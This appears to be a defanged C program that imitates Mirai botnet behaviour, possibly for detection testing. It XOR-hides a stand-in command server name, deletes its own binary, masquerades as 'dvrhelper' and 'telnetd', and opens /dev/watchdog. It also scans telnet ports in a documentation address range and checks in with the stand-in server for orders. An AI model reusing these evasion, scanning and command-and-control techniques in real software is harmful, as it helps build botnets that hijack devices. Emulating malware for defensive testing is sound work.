/* Like Mirai: a table under an XOR key, one instance, a new name, no file, a watchdog, a scan, a server. */
#include "bot.h"

#define KEY 0x22

/* "cnc.mirai.example" and "/dev/watchdog", as the table holds them. */
static char server[] = {'c' ^ KEY, 'n' ^ KEY, 'c' ^ KEY, '.' ^ KEY, 'm' ^ KEY, 'i' ^ KEY, 'r' ^ KEY, 'a' ^ KEY, 'i' ^ KEY, '.' ^ KEY,
			'e' ^ KEY, 'x' ^ KEY, 'a' ^ KEY, 'm' ^ KEY, 'p' ^ KEY, 'l' ^ KEY, 'e' ^ KEY, 0};

static void scan(void)
{
	for (unsigned i = 1; i < 120; i++) {
		const int fd = call_address(0xc6336400 + i, i % 10 ? 23 : 2323, SOCK_STREAM, 0);
		if (i % 30 == 0)
			usleep(100000);
		if (i > 100)
			close(fd);
	}
}

static void take_orders(uint32_t address)
{
	const int fd = call_address(address, 23, SOCK_STREAM, 3000);
	struct pollfd p = {.fd = fd, .events = POLLIN};
	char order[512];
	if (send(fd, "\0\0\0\1", 4, MSG_NOSIGNAL) != 4 || send(fd, "\4test", 5, MSG_NOSIGNAL) != 5)
		return;
	for (unsigned i = 0; i < 4; i++) {
		if (poll(&p, 1, 1000) == 1 && recv(fd, order, sizeof order, 0) <= 0)
			break;
		if (send(fd, "\0\0", 2, MSG_NOSIGNAL) < 0)
			break;
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in one = {.sin_family = AF_INET, .sin_port = htons(48101), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	const int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(fd, (struct sockaddr *)&one, sizeof one) || listen(fd, 1))
		return 1;
	unlink(argv[0]);
	prctl(PR_SET_NAME, "dvrhelper");
	const int watchdog = open("/dev/watchdog", O_RDWR);
	for (char *c = server; *c; c++)
		*c ^= KEY;
	if (fork() == 0) {
		scan();
		const pid_t other = fork();
		if (other == 0) {
			prctl(PR_SET_NAME, "telnetd");
			pause();
		}
		usleep(50000);
		kill(other, SIGKILL);
		_exit(0);
	}
	const uint32_t address = ask_name(argc > 1 ? argv[1] : "8.8.8.8", server);
	if (address)
		take_orders(address);
	wait(NULL);
	return watchdog >= 0 ? 2 : 0;
}
